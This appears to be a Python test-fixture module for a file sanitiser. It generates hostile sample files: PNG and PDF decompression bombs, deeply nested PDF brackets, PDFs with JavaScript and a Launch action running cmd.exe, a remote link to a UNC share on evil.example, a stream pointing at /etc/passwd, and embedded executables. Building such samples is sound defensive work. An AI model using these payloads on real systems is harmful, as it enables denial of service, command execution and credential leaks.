"""Files as strangers make them, well-meaning and otherwise. All are made here; none lies in the repository."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING, Any

import pikepdf
from PIL import Image

if TYPE_CHECKING:
    from collections.abc import Callable

GPS = 0x8825
SCRIPT = b"<html><script>alert(1)</script></html>"


def photo(
    form: str = "JPEG", size: tuple[int, int] = (60, 40), *, orientation: int = 1, place: bool = True, **how: Any
) -> bytes:
    """A photo, red on its left and blue on its right as stored, with all that a telephone notes about it."""
    picture = Image.new("RGB", size, "red")
    picture.paste("blue", (size[0] // 2, 0, *size))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Telephone of Amina"
    if place:
        exif.get_ifd(GPS).update({1: "N", 2: (43.0, 39.0, 0.0), 3: "E", 4: (51.0, 9.0, 0.0)})
    written = io.BytesIO()
    if form == "JPEG":
        how = {"comment": b"Telephone of Amina", "quality": 95} | how
    picture.save(written, form, exif=exif.tobytes(), icc_profile=b"profile of Amina", **how)
    return written.getvalue()


def picture(form: str, size: tuple[int, int], mode: str = "RGB", colour: Any = 0) -> bytes:
    written = io.BytesIO()
    Image.new(mode, size, colour).save(written, form)
    return written.getvalue()


def pixel_bomb(width: int, height: int) -> bytes:
    """A PNG of few bytes whose head promises so many points; black, so that its body would be small as well."""
    body = zlib.compress(b"\0" * 1000)
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def text_bomb() -> bytes:
    """A small PNG with a note that unpacks to a hundred megabytes."""
    plain = picture("PNG", (4, 4))
    note = b"Comment\0\0" + zlib.compress(b"\0" * 100_000_000, 9)
    return plain[:33] + _chunk(b"zTXt", note) + plain[33:]


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def archive(**files: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as made:
        for name, content in files.items():
            made.writestr(name, content)
    return written.getvalue()


def pdf(*, pages: int = 1, change: Callable[[pikepdf.Pdf], object] | None = None, **how: Any) -> bytes:
    """A document with so many pages of words, changed as asked before it is written."""
    document = pikepdf.new()
    for number in range(pages):
        page = document.add_blank_page(page_size=(200, 200))
        page.Contents = document.make_stream(f"BT /F1 12 Tf (page {number}) Tj ET".encode())
    document.docinfo["/Author"] = "Telephone of Amina"
    if change is not None:
        change(document)
    written = io.BytesIO()
    document.save(written, **how)
    return written.getvalue()


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="secret", owner="other"))


def script(code: str = "app.alert(1)") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def opens_with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = script()


def opens_with_program(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def opens_other_document(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\x.pdf"), D=pikepdf.Array([0])
    )


def named_script(document: pikepdf.Pdf) -> None:
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), document.make_indirect(script())]))
    )


def page_with_script(document: pikepdf.Pdf) -> None:
    document.pages[0].obj["/AA"] = pikepdf.Dictionary(O=document.make_indirect(script()))


def annotated(**note: Any) -> Callable[[pikepdf.Pdf], None]:
    """One annotation on the first page, directly in its place or pointed to."""

    def change(document: pikepdf.Pdf) -> None:
        made = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=pikepdf.Array([0, 0, 9, 9]), **note)
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(made)])

    return change


def link(**action: Any) -> Callable[[pikepdf.Pdf], None]:
    return annotated(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(**action))


def chained_link(document: pikepdf.Pdf) -> None:
    link(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.kz"), Next=pikepdf.Array([script()]))(document)


def field_with_script(document: pikepdf.Pdf) -> None:
    field = document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("name"),
            Rect=pikepdf.Array([0, 0, 9, 9]), AA=pikepdf.Dictionary(K=script()), A=script(),
        )
    )  # fmt: skip
    document.pages[0].Annots = pikepdf.Array([field])
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def bookmarked_script(document: pikepdf.Pdf) -> None:
    entry = document.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("x"), A=script()))
    document.Root.Outlines = document.make_indirect(pikepdf.Dictionary(First=entry, Last=entry, Count=1))


def film(document: pikepdf.Pdf) -> None:
    annotated(Subtype=pikepdf.Name.RichMedia, RichMediaContent=pikepdf.Dictionary())(document)


def with_a_file(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ"


def with_a_pinned_file(document: pikepdf.Pdf) -> None:
    inside = document.make_indirect(document.make_stream(b"MZ"))
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("x.exe"), EF=pikepdf.Dictionary(F=inside))
    annotated(Subtype=pikepdf.Name.FileAttachment, FS=spec)(document)


def portfolio(document: pikepdf.Pdf) -> None:
    document.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)


def xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=document.make_stream(b"<xdp/>"))


def data_elsewhere(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream["/F"] = pikepdf.String("/etc/passwd")
    document.pages[0].obj["/Secret"] = document.make_indirect(stream)


def with_photo(document: pikepdf.Pdf) -> None:
    """A scanned page: the photo in it knows where it was taken."""
    stream = document.make_stream(photo())
    for name, value in {
        "/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Image, "/Width": 60, "/Height": 40,
        "/ColorSpace": pikepdf.Name.DeviceRGB, "/BitsPerComponent": 8, "/Filter": pikepdf.Name.DCTDecode,
    }.items():  # fmt: skip
        stream[name] = value
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=document.make_indirect(stream)))
    document.pages[0].obj["/PieceInfo"] = pikepdf.Dictionary(Amina=pikepdf.String("Telephone of Amina"))
    with document.open_metadata(set_pikepdf_as_editor=False) as notes:
        notes["dc:creator"] = ["Telephone of Amina"]


def with_drawings(document: pikepdf.Pdf) -> None:
    """Draw on every page what cannot be packed: a quarter of a hundred kilobytes each."""
    drawn = random.Random(5)  # noqa: S311 -- only to be alike each time
    for page in document.pages:
        drawing = pikepdf.Stream(document, drawn.randbytes(24_000))
        drawing.Type, drawing.Subtype = pikepdf.Name("/XObject"), pikepdf.Name("/Image")
        drawing.Width, drawing.Height, drawing.BitsPerComponent = 100, 80, 8
        drawing.ColorSpace = pikepdf.Name("/DeviceRGB")
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(D=drawing))


def unpacking_bomb(gigabytes: int = 2) -> bytes:
    """A PDF whose table of objects unpacks to gigabytes: a reader must unpack it before it can know anything."""
    packer = zlib.compressobj(9)
    zeros = b"\0" * (16 * 1024 * 1024)
    body = b"".join(packer.compress(zeros) for _ in range(gigabytes * 64)) + packer.flush()
    head = b"%PDF-1.5\n"
    table = (
        b"1 0 obj\n<< /Type /XRef /Size 9 /W [1 2 1] /Root 2 0 R /Filter /FlateDecode /Length "
        + str(len(body)).encode()
        + b" >>\nstream\n"
        + body
        + b"\nendstream\nendobj\n"
    )
    return head + table + b"startxref\n" + str(len(head)).encode() + b"\n%%EOF\n"


def nested_pdf(depth: int = 100_000) -> bytes:
    """Brackets within brackets."""
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * depth + b"]" * depth)
